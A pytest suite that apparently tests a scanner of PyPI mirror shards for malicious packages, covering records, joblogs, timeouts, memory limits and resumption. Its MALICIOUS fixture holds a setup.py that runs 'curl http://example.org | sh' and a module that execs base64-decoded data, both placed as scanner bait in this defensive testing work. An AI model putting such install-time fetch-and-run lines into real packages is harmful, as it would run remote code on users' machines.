import fcntl
import io
import json
import os
import re
import signal
import subprocess
import time
from hashlib import sha256
from pathlib import Path
from typing import Any

import pytest
import zstandard

from .conftest import UPLOADED, Shard, command, last_line, sdist, wheel
from .test_records import evaluate

METADATA = {"x-1.0.dist-info/METADATA": "Name: x\n", "x-1.0.dist-info/WHEEL": "Wheel-Version: 1.0\n"}
BENIGN = wheel({"benign.py": "from . import other\nimport os.path\n\n\ndef add(a, b):\n    return a + b\n"})
MALICIOUS = sdist(
    {
        "bad-1.0/setup.py": "import os\nimport socket\nfrom setuptools import setup\n"
        "socket.create_connection(('a', 1))\n"
        "os.system('curl http://example.org | sh')\neval(compile('1', '', 'eval'))\nsetup(name='bad')\n",
        "bad-1.0/bad.py": "SECRET = '" + "QUJD" * 40 + "'\nexec(__import__('base64').b64decode(SECRET))\n",
        "bad-1.0/tests/test_bad.py": "import bad\n",
        "bad-1.0/inner.zip": wheel({"deep.py": "import pickle\npickle.loads(b'')\n"}),
        "bad-1.0/requirements.txt": "requests==1.0\nsix\n",
    }
)
SLOW = wheel({"slow.py": "x = " + "(" * 60 + "1" + "+1)" * 60 + "\n" + "f(a, b).c(d)[0].e(x)\n" * 5000})


def records(output: Path) -> list[dict[str, Any]]:
    with zstandard.open(output / "records.jsonl.zst", "rt", encoding="utf-8") as lines:
        return [json.loads(line) for line in lines]


def statuses(output: Path) -> dict[str, dict[str, Any]]:
    return {(line := json.loads(text))["name"]: line for text in (output / "status.jsonl").read_text().splitlines()}


def rows(output: Path) -> list[list[str]]:
    return [row.split("\t") for row in (output / "joblog.txt").read_text().splitlines()[1:]]


def small_shard(shard: Shard) -> Shard:
    """A benign package, one that is not, and one with a Python 2 source and a GitHub URL."""
    shard.add("benign", {"benign-1.0-py3-none-any.whl": BENIGN})
    shard.add(
        "bad", {"bad-1.0.tar.gz": MALICIOUS, "bad-1.0-py3-none-any.whl": wheel({"bad.py": "eval('1')\n", **METADATA})}
    )
    project_urls = {"Source": "https://github.com/example/old"}
    shard.add("old", {"old-1.0.tar.gz": sdist({"old-1.0/old.py": "print 'two'\n"})}, project_urls=project_urls)
    return shard


def processes_in(directory: Path) -> list[int]:
    """Return the processes whose working directory lies below `directory`."""
    found = []
    for entry in Path("/proc").iterdir():
        if entry.name.isdigit():
            try:
                if (entry / "cwd").readlink().is_relative_to(directory):
                    found.append(int(entry.name))
            except OSError:
                pass
    return found


@pytest.fixture
def scan(shard: Shard, run: Any, tmp_path: Path) -> Any:
    """Scan the shard, with the mirror itself as the cache."""

    def scan(output: Path = tmp_path / "output", **options: object) -> subprocess.CompletedProcess[str]:
        return run("scan_shard.py", shard=shard.write(), cache=shard.web.parent, output=output, **options)

    return scan


def test_records(shard: Shard, scan: Any, tmp_path: Path) -> None:
    small_shard(shard)
    done = scan()
    assert done.returncode == 0, done.stderr
    bad, benign, old = found = records(tmp_path / "output")
    lines = {line["name"]: line for line in shard.packages}
    for record, name in zip(found, ("bad", "benign", "old"), strict=True):
        assert record.keys() == {"detections", "imported_modules", "tags", "metadata", "score", "name", "pypi"}
        assert record["name"] == f"mirror://{name}"
        assert record["metadata"]["uri_input"]["package"] == record["metadata"]["uri_input"]["package_name"] == name
        files = sorted(lines[name]["files"], key=lambda file: file["path"])
        assert record["pypi"] == {"name": name, "version": "1.0", "files": files}
        assert files[0]["upload_time"] == UPLOADED
        assert record["imported_modules"] == sorted(record["imported_modules"])
        assert record["tags"] == sorted(record["tags"])
        text = json.dumps(record)
        assert str(tmp_path) not in text
        assert "unpacked0" not in text
    assert "os.path" in benign["imported_modules"]
    assert benign["score"] == 0
    assert {"system_execution", "code_execution", "test_code"} <= set(bad["tags"])
    assert bad["score"] > 100
    path = lines["bad"]["files"][0]["path"]
    locations = {detection.get("location") for detection in bad["detections"]}
    assert {
        f"{path}$bad-1.0/setup.py",
        f"{path}$bad-1.0/inner.zip$deep.py",
        f"{path}$bad-1.0/bad.py:1$blob",
    } <= locations
    test_code = {d.get("location") for d in bad["detections"] if "test_code" in d.get("tags", ())}
    assert test_code == {f"{path}$bad-1.0/tests/test_bad.py"}  # and not what lies in a directory like this test's own
    assert "ASTParseError" in {detection["type"] for detection in old["detections"]}
    assert "PackageInformation" in {detection["type"] for detection in old["detections"]}
    assert not {"InvalidRequirement", "OutdatedPackage"} & {detection["type"] for detection in bad["detections"]}


def test_status_for_every_package(shard: Shard, scan: Any, tmp_path: Path) -> None:
    shard.add("benign", {"benign-1.0-py3-none-any.whl": BENIGN})
    shard.add("none", {})
    shard.add("truncated", {"truncated-1.0.tar.gz": MALICIOUS[: len(MALICIOUS) // 2]})
    shard.add("garbage", {"garbage-1.0-py3-none-any.whl": b"not a zip archive at all " * 20})
    encrypted = bytearray(wheel({"a.py": "import os\n" * 100}))
    for header, flags in ((b"PK\3\4", 6), (b"PK\1\2", 8)):
        encrypted[encrypted.index(header) + flags] |= 1
    shard.add("encrypted", {"encrypted-1.0-py3-none-any.whl": bytes(encrypted)})
    shard.add("crashes", {"crashes-1.0-py3-none-any.whl": BENIGN + b" "})["json"]["releases"] = ["not a mapping"]
    shard.add("odd", {"odd-1.0-py3-none-any.whl": BENIGN + b"     "}, project_urls=["not a mapping"])
    partly = shard.add("partly", {"partly-1.0.tar.gz": b"gone", "partly-1.0-py3-none-any.whl": BENIGN + b"  "})
    (shard.web / partly["files"][0]["path"]).unlink()
    gone = shard.add("gone", {"gone-1.0.tar.gz": b"gone as well"})
    (shard.web / gone["files"][0]["path"]).unlink()
    shard.add("Not_Canonical", {"x-1.0-py3-none-any.whl": BENIGN + b"   "})
    shard.add("escapes", {"y-1.0-py3-none-any.whl": BENIGN + b"    "})["files"][0]["path"] = "packages/../../y.whl"
    done = scan()
    assert done.returncode == 0, done.stderr
    found = statuses(tmp_path / "output")
    assert list(found) == sorted(package["name"] for package in shard.packages)
    assert {name: (status["status"], status["record"]) for name, status in found.items()} == {
        "benign": ("ok", True),
        "none": ("no_release", False),
        "truncated": ("corrupt", True),
        "garbage": ("corrupt", True),
        "encrypted": ("corrupt", True),
        "crashes": ("crash", False),
        "odd": ("ok", True),
        "partly": ("missing_file", True),
        "gone": ("missing_file", False),
        "Not_Canonical": ("skipped", False),
        "escapes": ("skipped", False),
    }
    with_record = [record["pypi"]["name"] for record in records(tmp_path / "output")]
    assert with_record == sorted(name for name, status in found.items() if status["record"])
    benign = found["benign"]
    assert benign["reason"] is None
    assert benign["files"] == [{k: f[k] for k in ("path", "sha256", "size")} for f in shard.packages[0]["files"]]
    assert benign["seconds"] > 0
    assert benign["cpu_seconds"] > 0
    assert benign["peak_memory_bytes"] > 10_000_000
    assert benign["bytes"] == len(BENIGN)
    assert benign["detections"] > 0
    assert "AttributeError in mirror_view.py:" in found["crashes"]["reason"]
    assert partly["files"][0]["path"] in found["partly"]["reason"]
    assert all((status["reason"] is None) == (status["status"] == "ok") for status in found.values())
    assert str(tmp_path) not in (tmp_path / "output" / "status.jsonl").read_text()
    tried = {row[-1].removeprefix("scan ") for row in rows(tmp_path / "output")}
    assert tried == {"benign", "truncated", "garbage", "encrypted", "crashes", "odd", "partly"}


def test_joblog_is_as_gnu_parallel_writes_it(shard: Shard, scan: Any, tmp_path: Path) -> None:
    small_shard(shard)
    assert scan(jobs=1).returncode == 0
    text = (tmp_path / "output" / "joblog.txt").read_text()
    assert text.startswith("Seq\tHost\tStarttime\tJobRuntime\tSend\tReceive\tExitval\tSignal\tCommand\n")
    lines = text.splitlines()[1:]
    assert all(
        re.fullmatch(r"\d+\t:\t *\d{10}\.\d{3}\t[ \d]{6}\.\d{3}\t0\t\d+\t0\t0\tscan [a-z]+", line) for line in lines
    )
    assert sorted(row[0] for row in rows(tmp_path / "output")) == ["1", "2", "3"]
    sizes = {row[-1]: int(row[5]) for row in rows(tmp_path / "output")}
    with zstandard.open(tmp_path / "output" / "records.jsonl.zst", "rb") as file:
        lines = io.BytesIO(file.read()).readlines()
    written = {f"scan {json.loads(line)['pypi']['name']}": len(line) for line in lines}
    assert sizes == written


def rerun_failed(joblog: Path, names: list[str]) -> list[str]:
    """Return what GNU parallel runs again to go on where `joblog`, of these packages, has failed or ended."""
    command = ["parallel", "--joblog", joblog, "--resume-failed", "--jobs", "1", "echo scan {}", ":::", *names]
    environment = {**os.environ, "PARALLEL_HOME": str(joblog.parent)}
    done = subprocess.run(command, capture_output=True, text=True, env=environment, timeout=60)
    assert done.returncode == 0, done.stderr
    return done.stdout.splitlines()


def test_gnu_parallel_goes_on_with_the_joblog(shard: Shard, scan: Any, tmp_path: Path) -> None:
    shard.add("slow", {"slow-1.0-py3-none-any.whl": SLOW})
    shard.add("benign", {"benign-1.0-py3-none-any.whl": BENIGN})
    shard.add("none", {})
    shard.add("truncated", {"truncated-1.0.tar.gz": MALICIOUS[: len(MALICIOUS) // 2]})
    assert scan(cpu=1).returncode == 0
    found = statuses(tmp_path / "output")
    assert {name: (status["status"], status["record"]) for name, status in found.items()} == {
        "benign": ("ok", True),
        "none": ("no_release", False),
        "slow": ("timeout", False),
        "truncated": ("corrupt", True),
    }
    names = [package["name"] for package in shard.packages]
    joblog = tmp_path / "output" / "joblog.txt"
    assert rerun_failed(joblog, names) == ["scan slow", "scan none"]  # all without a record, and no other
    assert rerun_failed(joblog, names) == []  # by the rows that it has written itself, below ours


def test_a_package_without_a_record_has_failed(worker_python: Path, tmp_path: Path) -> None:
    source = f"""
from pool import Ended
ends = {{"ok": (0, 0, 7), "unusable": (0, 0, 0), "raised": (3, 0, 0), "killed": (0, 9, 0)}}
rows = [
    joblog.row(seq, name, Ended(1.0, 2.0, 1.5, 7, code, number, timed_out=False, postponed=False), received)
    for seq, (name, (code, number, received)) in enumerate(ends.items(), start=1)
]
with open({str(tmp_path / "joblog.txt")!r}, "w") as file:
    file.writelines([joblog.HEADER, *rows])
print(json.dumps([row.split("\t")[6:8] for row in rows]))
"""
    assert evaluate(worker_python, "joblog", source) == [["0", "0"], ["1", "0"], ["3", "0"], ["0", "9"]]
    names = ["ok", "unusable", "raised", "killed"]
    assert rerun_failed(tmp_path / "joblog.txt", names) == ["scan unusable", "scan raised", "scan killed"]


def test_cpu_time_is_bounded(shard: Shard, scan: Any, tmp_path: Path) -> None:
    shard.add("slow", {"slow-1.0-py3-none-any.whl": SLOW})
    done = scan(cpu=2, timeout=100)
    assert done.returncode == 0, done.stderr
    slow = statuses(tmp_path / "output")["slow"]
    assert (slow["status"], slow["reason"]) == ("timeout", "not finished after 2 seconds of CPU time")
    assert 1 < slow["cpu_seconds"] < 3  # the kernel counts in ticks, and so not quite what it reports
    assert [row[6:8] for row in rows(tmp_path / "output")] == [["0", str(int(signal.SIGXCPU))]]


def test_timeout_kills_one_package(shard: Shard, scan: Any, tmp_path: Path) -> None:
    shard.add("benign", {"benign-1.0-py3-none-any.whl": BENIGN})
    shard.add("slow", {"slow-1.0-py3-none-any.whl": SLOW})
    done = scan(timeout=4, jobs=1)
    assert done.returncode == 0, done.stderr
    found = statuses(tmp_path / "output")
    assert (found["benign"]["status"], found["slow"]["status"]) == ("ok", "timeout")
    assert found["slow"]["reason"] == "not finished after 4 seconds"
    assert [row[6:8] for row in rows(tmp_path / "output") if row[-1] == "scan slow"] == [["0", "9"]]
    assert "package 2: timeout" in done.stderr
    assert "slow" not in done.stderr
    assert not list((tmp_path / "output" / ".work").rglob("tmp"))
    assert processes_in(tmp_path) == []


def test_a_package_put_off_is_scanned_later(shard: Shard, worker_python: Path, tmp_path: Path) -> None:
    for number, name in enumerate(("older", "younger")):
        shard.add(name, {f"{name}-1.0-py3-none-any.whl": BENIGN + b" " * (2 - number)})
    source = f"""
import os, signal, time
from contextlib import ExitStack
from pathlib import Path
from types import SimpleNamespace
from cores import Cores
from pool import ForkPool, Limits
from progress import Progress
from shard import read_shard
place, web = Path({str(tmp_path)!r}), Path({str(shard.web)!r})
packages = read_shard(Path({str(shard.write())!r})).packages
workspace = scan_shard.Workspace(place / "output", {{}})
workspace.resume()
begun, again = place / "begun", place / "again"
def work(job):
    name = job.package.name
    job.temporary.mkdir(parents=True)
    (job.temporary / "left").touch()
    if name == "younger" and not begun.exists():
        begun.touch()
        signal.pause()
    if name == "younger":
        again.touch()
    while not again.exists():
        time.sleep(0.001)
    job.record.write_text(json.dumps({{"name": f"mirror://{{name}}", "detections": [], "score": 0}}) + "\\n")
    scan_shard.Outcome("ok").write(job.outcome)
def available():
    # Enough again once the younger has been put off.
    kept = [path.name for path in (place / "output" / ".work" / "jobs").iterdir()]
    return 0 if begun.exists() and "000002" in kept and not again.exists() else 100
pool = ForkPool(work, Cores(2), Limits(60, 60, 2**32, 2**20), 100, available)
scan_shard.scan_packages(packages, workspace, pool, web, Progress("test", 2), ExitStack())
workspace.write_results({{}}, 2)
print(json.dumps(sorted(os.listdir(place / "output" / ".work" / "jobs"))))
"""
    assert evaluate(worker_python, "scan_shard", source) == []
    found = statuses(tmp_path / "output")
    assert {name: (status["status"], status["record"]) for name, status in found.items()} == {
        "older": ("ok", True),
        "younger": ("ok", True),
    }
    assert sorted(row[-1] for row in rows(tmp_path / "output")) == ["scan older", "scan younger"]


def test_memory_is_bounded(shard: Shard, scan: Any, tmp_path: Path) -> None:
    shard.add("benign", {"benign-1.0-py3-none-any.whl": BENIGN})
    shard.add("hungry", {"hungry-1.0.tar.gz": sdist({"hungry.py": "a = [" + "[1, 2, 3], " * 60_000 + "]\n"})})
    done = scan(memory=180, jobs=1)
    assert done.returncode == 0, done.stderr
    found = statuses(tmp_path / "output")
    assert (found["benign"]["status"], found["hungry"]["status"]) == ("ok", "memory")


def test_same_input_gives_the_same_bytes(shard: Shard, scan: Any, tmp_path: Path) -> None:
    small_shard(shard)
    assert scan(tmp_path / "one", jobs=1).returncode == 0
    shard.packages.reverse()
    shard.web.parent.rename(tmp_path / "tests")
    shard.web = tmp_path / "tests" / "web"
    assert scan(tmp_path / "requirements" / "two", jobs=3).returncode == 0
    one = (tmp_path / "one" / "records.jsonl.zst").read_bytes()
    assert one == (tmp_path / "requirements" / "two" / "records.jsonl.zst").read_bytes()


def test_goes_on_after_it_was_killed(shard: Shard, scan: Any, worker_python: Path, tmp_path: Path) -> None:
    small_shard(shard)
    for number in range(4):
        shard.add(f"more{number}", {f"more{number}-1.0.tar.gz": sdist({"m.py": f"import os\nos.system('{number}')\n"})})
    assert scan(tmp_path / "undisturbed").returncode == 0
    output = tmp_path / "output"
    start = command(worker_python, "scan_shard.py", shard=shard.file, cache=shard.web.parent, output=output, jobs=2)
    journal = output / ".work" / "journal.jsonl"
    with subprocess.Popen(start, stderr=subprocess.DEVNULL) as process:
        while not journal.exists() or journal.read_bytes().count(b"\n") < 2:  # what it works on, and one package
            assert process.poll() is None
            time.sleep(0.001)
        process.send_signal(signal.SIGKILL)
    while processes_in(output / ".work" / "jobs"):  # killed with their parent, by the kernel
        time.sleep(0.001)
    finished = [json.loads(line) for line in journal.read_text().splitlines()[1:]]
    assert 1 <= len(finished) < len(shard.packages)
    assert not (output / "records.jsonl.zst").exists()
    with journal.open("ab") as file:
        file.write(b'{"torn":"before its newline"}')

    done = scan(output)
    assert done.returncode == 0, done.stderr
    assert (output / "records.jsonl.zst").read_bytes() == (tmp_path / "undisturbed" / "records.jsonl.zst").read_bytes()
    assert statuses(output).keys() == statuses(tmp_path / "undisturbed").keys()
    names = [row[-1] for row in rows(output)]
    assert sorted(names) == sorted(f"scan {package['name']}" for package in shard.packages)
    log = (output / "joblog.txt").read_text().splitlines(keepends=True)
    assert log[1 : len(finished) + 1] == [entry["joblog"] for entry in finished]  # with the times of the killed run
    assert [path.name for path in (output / ".work").iterdir()] == ["journal.jsonl"]


def test_finished_shard_is_not_scanned_again(shard: Shard, scan: Any, tmp_path: Path) -> None:
    small_shard(shard)
    assert scan().returncode == 0
    before = {path.name: path.stat().st_mtime_ns for path in (tmp_path / "output").iterdir() if path.is_file()}
    done = scan()
    assert done.returncode == 0
    assert "finished already" in done.stderr
    assert before == {path.name: path.stat().st_mtime_ns for path in (tmp_path / "output").iterdir() if path.is_file()}
    done = scan(timeout=800)  # other settings: not the same scan
    assert "finished already" not in done.stderr
    assert json.loads((tmp_path / "output" / "scanner.json").read_text())["settings"]["timeout"] == 800


def test_a_second_scan_of_a_shard_waits_for_the_first(shard: Shard, worker_python: Path, tmp_path: Path) -> None:
    small_shard(shard)
    output = tmp_path / "output"
    output.mkdir()
    start = command(worker_python, "scan_shard.py", shard=shard.write(), cache=shard.web.parent, output=output)
    with (output / ".lock").open("ab") as first:
        fcntl.flock(first, fcntl.LOCK_EX)
        process = subprocess.Popen(start, stderr=subprocess.PIPE, text=True)
        assert process.stderr is not None
        assert "waiting: another run works in" in process.stderr.readline()
        assert [path.name for path in output.iterdir()] == [".lock"]
    with process:
        assert process.wait(timeout=60) == 0
    assert len(statuses(output)) == len(shard.packages)


@pytest.mark.parametrize("number", [signal.SIGTERM, signal.SIGKILL])
def test_stopped_scan_leaves_no_process(shard: Shard, worker_python: Path, tmp_path: Path, number: int) -> None:
    shard.add("slow", {"slow-1.0-py3-none-any.whl": SLOW})
    output = tmp_path / "output"
    start = command(worker_python, "scan_shard.py", shard=shard.write(), cache=shard.web.parent, output=output)
    with subprocess.Popen(start, stderr=subprocess.PIPE, text=True) as process:
        while not processes_in(output / ".work" / "jobs"):
            assert process.poll() is None
            time.sleep(0.001)
        process.send_signal(number)
        _, errors = process.communicate(timeout=30)
    if number == signal.SIGTERM:
        assert process.returncode == 1
        assert errors.splitlines()[-1].startswith("error: stopped by a signal")
    deadline = time.monotonic() + 2  # the scan would take far longer
    while processes_in(tmp_path):
        assert time.monotonic() < deadline
        time.sleep(0.001)


def test_dataset(shard: Shard, scan: Any, tmp_path: Path) -> None:
    shard.add("requestz", {"requestz-1.0-py3-none-any.whl": BENIGN})
    dataset = tmp_path / "dataset"
    dataset.mkdir()
    stats = [("requests", 5_000_000), ("numpy", 20_000), ("requestz", 50), ("rest", 7)]
    lines = [json.dumps({"package_name": name, "downloads": downloads}) for name, downloads in stats]
    (dataset / "pypi_stats.json").write_text("\n".join(lines) + "\n")
    (dataset / "reverse_dependencies.json").write_text(json.dumps({"requestz": ["a", "b"], "other": ["c"]}))
    done = scan(dataset=dataset)
    assert done.returncode == 0, done.stderr
    (record,) = records(tmp_path / "output")
    extra = {detection["type"]: detection.get("extra") for detection in record["detections"]}
    assert extra["Typosquatting"] == {"package_name": "requests"}
    assert extra["PackageInformation"]["reverse_dependencies"] == ["a", "b"]
    score = {entry["label"]: entry.get("value") for entry in extra["PackageInformation"]["score"]["entries"]}
    assert (score["PyPI downloads"], score["Reverse dependencies"]) == (50, 2)
    scanner = json.loads((tmp_path / "output" / "scanner.json").read_text())
    assert scanner["datasets"] == {path.name: sha256(path.read_bytes()).hexdigest() for path in dataset.iterdir()}


def test_scanner_is_described(shard: Shard, scan: Any, tmp_path: Path) -> None:
    assert scan(jobs=3, timeout=60, memory=2048).returncode == 0
    scanner = json.loads((tmp_path / "output" / "scanner.json").read_text())
    assert scanner.keys() == {"scanner", "version", "python", "settings", "datasets"}
    assert scanner["datasets"] == {}
    assert (scanner["scanner"], scanner["version"]) == ("aura-security", "2.1")
    assert scanner["python"].startswith("3.11.")
    assert (scanner["settings"]["timeout"], scanner["settings"]["memory"]) == (60, 2048)
    assert records(tmp_path / "output") == []
    assert (tmp_path / "output" / "joblog.txt").read_text().count("\n") == 1


def test_text_that_is_no_unicode(shard: Shard, scan: Any, tmp_path: Path) -> None:
    source = 'A = "\\ud800' + "x" * 200 + '"\npassword = "\\udc80secret"\nB = "\\ud83d\\ude00' + "y" * 200 + '"\n'
    shard.add("odd", {"odd-1.0.tar.gz": sdist({"odd-1.0/odd.py": source})}, summary="\ud800")
    done = scan()
    assert done.returncode == 0, done.stderr
    assert statuses(tmp_path / "output")["odd"]["status"] == "ok"
    with zstandard.open(tmp_path / "output" / "records.jsonl.zst", "rb") as file:
        assert "\ufffdsecret" in io.TextIOWrapper(file, encoding="utf-8").read()


def test_everything_crashing_is_an_error(shard: Shard, scan: Any, tmp_path: Path) -> None:
    for number in range(5):
        files = {f"p{number}-1.0-py3-none-any.whl": BENIGN + b" " * number}
        shard.add(f"p{number}", files)["json"]["releases"] = ["not a mapping"]
    done = scan()
    assert done.returncode == 70
    assert last_line(done).startswith("error: all 5 packages crashed, the first with: AttributeError")
    assert len(statuses(tmp_path / "output")) == 5
    started = {row[2] for row in rows(tmp_path / "output")}
    assert scan().returncode == 70  # a shard that failed is scanned again, all of it
    assert len(rows(tmp_path / "output")) == 5
    assert started.isdisjoint(row[2] for row in rows(tmp_path / "output"))


def test_output_that_cannot_be_written(scan: Any, tmp_path: Path) -> None:
    (tmp_path / "file").touch()
    done = scan(tmp_path / "file" / "output")
    assert done.returncode == 1
    assert last_line(done).startswith("error: ")
